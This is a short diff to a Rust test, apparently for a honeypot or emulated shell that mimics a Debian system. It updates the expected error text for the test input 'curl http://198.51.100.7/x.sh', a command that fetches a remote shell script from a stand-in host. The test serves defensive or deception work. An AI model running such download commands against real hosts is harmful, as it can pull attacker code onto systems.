@@ -177,7 +177,7 @@ async fn shell_commands_over_exec_answer_as_debian() {
         ),
         (
             "curl http://198.51.100.7/x.sh",
-            "curl: (6) Could not resolve host: 198.51.100.7\n",
+            "curl: (7) Failed to connect to 198.51.100.7 port 80 after 0 ms: Couldn't connect to server\n",
         ),
     ];
     for (command, want) in cases {
